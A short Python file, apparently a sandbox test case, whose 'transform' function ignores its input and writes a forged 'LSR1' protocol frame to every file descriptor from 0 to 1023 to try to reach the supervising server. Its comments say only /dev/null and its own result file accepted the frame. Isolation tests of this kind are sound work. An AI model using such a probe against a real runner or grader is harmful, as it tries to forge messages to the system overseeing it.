# kind: forged-frames
# aim: speak to the server in its own frames on each descriptor there may be
# proof: the descriptors that took the frame are counted: three of /dev/null and the program's own result file
# expect: returned [[0,1,2],4]

import os, struct
FRAME = struct.pack("<4sBBHIIIII", b"LSR1", 0, 0, 0, 1, 8, 1, 1, 1) + struct.pack("<BBI", 0, 0, 2) + b"\x01n"


def transform(records):
    written = []
    for descriptor in range(1024):
        try:
            os.write(descriptor, FRAME)
            written.append(descriptor)
        except OSError:
            pass
    return [written[:3], len(written)]
